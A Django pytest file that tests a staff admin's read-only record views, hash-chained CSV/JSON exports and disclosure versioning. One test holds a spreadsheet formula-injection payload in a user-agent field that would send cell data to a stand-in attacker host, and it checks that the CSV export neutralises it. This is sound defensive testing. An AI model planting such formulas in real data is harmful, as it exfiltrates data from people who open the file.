"""Staff: read-only agreements and records, exports, disclosure versions."""

import csv
import io
import json

import pytest
from django.utils import timezone

from affirmations.models import Disclosure, Record, RecordEvent
from affirmations.records import record_append, record_chain_of
from affirmations.seed import seed_reference_data
from smt_portal.actors import Actor

from .conftest import request_agreement, residential

pytestmark = pytest.mark.django_db

EXPORT = "/admin/affirmations/record/export/"


def _content(response):
    return b"".join(response.streaming_content).decode()


def test_staff_export_an_agreements_records_as_csv(admin_client, active_csp):
    mine = request_agreement(active_csp, residential())
    request_agreement(active_csp, residential())

    response = admin_client.get(EXPORT, {"agreement": mine.pk, "format": "csv"})

    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(_content(response))))
    assert [r["event"] for r in rows] == ["request_created", "email_queued"]
    assert {r["agreement_id"] for r in rows} == {str(mine.pk)}
    assert json.loads(rows[0]["details"])["to_status"] == "pending_affirmation"
    assert rows[1]["previous_hash"] == rows[0]["hash"]


def test_staff_export_by_esi_id_and_by_csp_as_json(admin_client, active_csp, other_csp):
    home = residential()
    request_agreement(active_csp, home)
    request_agreement(other_csp, home)
    request_agreement(other_csp, residential())

    by_premise = json.loads(
        _content(admin_client.get(EXPORT, {"esi_id": home.esi_id, "format": "json"}))
    )
    by_csp = json.loads(_content(admin_client.get(EXPORT, {"csp": other_csp.pk, "format": "json"})))

    assert len(by_premise) == 4
    assert len(by_csp) == 4 and {r["csp_id"] for r in by_csp} == {other_csp.pk}


def test_an_export_names_each_rows_chain_and_place_so_every_link_can_be_rechecked(
    admin_client, active_csp, other_csp
):
    home = residential()
    request_agreement(active_csp, home)
    request_agreement(other_csp, home)

    rows = json.loads(_content(admin_client.get(EXPORT, {"esi_id": home.esi_id, "format": "json"})))

    assert len(rows) == 4
    assert all(row["chain"] == record_chain_of(row["csp_id"]) for row in rows)
    for before, after in zip(rows, rows[1:], strict=False):
        if after["chain"] == before["chain"] and after["seq"] == before["seq"] + 1:
            assert after["previous_hash"] == before["hash"]
    assert [(r["chain"], r["seq"]) for r in rows] == sorted((r["chain"], r["seq"]) for r in rows)
    assert all(row["hash_version"] == 2 for row in rows)


def test_the_export_form_wants_exactly_one_subject(admin_client):
    response = admin_client.get(EXPORT, {"format": "csv", "agreement": 1, "csp": 1})
    assert response.status_code == 200
    assert "exactly one" in response.content.decode()


def test_records_and_agreements_cannot_be_changed_in_the_admin(admin_client, active_csp):
    agreement = request_agreement(active_csp, residential())
    record = Record.objects.first()
    assert admin_client.get(f"/admin/affirmations/record/{record.pk}/change/").status_code == 200
    assert admin_client.post(f"/admin/affirmations/record/{record.pk}/delete/").status_code == 403
    assert admin_client.get("/admin/affirmations/record/add/").status_code == 403
    page = admin_client.get(f"/admin/affirmations/agreement/{agreement.pk}/change/")
    assert page.status_code == 200
    assert 'name="status"' not in page.content.decode()
    assert admin_client.get("/admin/affirmations/record/").status_code == 200


def test_a_published_disclosure_is_never_edited_only_superseded(admin_client):
    seed_reference_data(io.StringIO())
    first = Disclosure.objects.get()
    admin_client.post(f"/admin/affirmations/disclosure/{first.pk}/change/", {"text_en": "changed"})
    first.refresh_from_db()
    assert "15-minute" in first.text_en

    admin_client.post(
        "/admin/affirmations/disclosure/add/", {"version": 2, "text_en": "v2", "text_es": "v2 es"}
    )
    assert list(Disclosure.objects.values_list("version", flat=True)) == [2, 1]


def test_seeding_creates_disclosure_version_one_once():
    out = io.StringIO()
    seed_reference_data(out)
    seed_reference_data(out)
    disclosure = Disclosure.objects.get()
    assert disclosure.version == 1
    assert "at any time" in disclosure.text_en and "nothing is shared" in disclosure.text_en
    assert "en cualquier momento" in disclosure.text_es


@pytest.mark.parametrize("fmt", ["csv", "json"])
@pytest.mark.parametrize("subject", ["agreement", "esi_id", "csp"])
def test_staff_export_by_each_subject_in_each_format(admin_client, active_csp, subject, fmt):
    home = residential()
    mine = request_agreement(active_csp, home)
    request_agreement(active_csp, residential())  # another agreement: not in the first two
    value = {"agreement": mine.pk, "esi_id": home.esi_id, "csp": active_csp.pk}[subject]

    response = admin_client.get(EXPORT, {subject: value, "format": fmt})

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv" if fmt == "csv" else "application/json")
    text = _content(response)
    rows = list(csv.DictReader(io.StringIO(text))) if fmt == "csv" else json.loads(text)
    expected = 4 if subject == "csp" else 2
    assert len(rows) == expected
    assert {str(r["csp_id"]) for r in rows} == {str(active_csp.pk)}


def test_a_csv_export_neutralises_a_formula_in_a_user_agent_and_json_keeps_it_exact(
    admin_client, active_csp
):
    agreement = request_agreement(active_csp, residential())
    attack = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
    record_append(event=RecordEvent.OPTED_OUT, agreement=agreement, now=timezone.now(),
                  actor=Actor.customer(ip="198.51.100.7", user_agent=attack))  # fmt: skip
    query = {"agreement": agreement.pk}

    rows = list(
        csv.DictReader(io.StringIO(_content(admin_client.get(EXPORT, query | {"format": "csv"}))))
    )
    exact = json.loads(_content(admin_client.get(EXPORT, query | {"format": "json"})))

    assert rows[-1]["user_agent"] == "'" + attack
    assert exact[-1]["user_agent"] == attack


def test_publishing_a_disclosure_writes_its_text_into_the_record(admin_client, admin_user):
    admin_client.post(
        "/admin/affirmations/disclosure/add/",
        {"version": 7, "text_en": "You share usage.", "text_es": "Usted comparte."},
    )
    published = Disclosure.objects.get(version=7)
    assert published.created_by == admin_user and published.published_at is not None
    record = Record.objects.get(event=RecordEvent.DISCLOSURE_PUBLISHED)
    assert record.details["version"] == 7
    assert (record.details["text_en"], record.details["text_es"]) == (
        "You share usage.",
        "Usted comparte.",
    )
    assert record.actor_type == "staff" and record.actor == admin_user.get_username()
    assert len(record.details["sha256"]) == 64
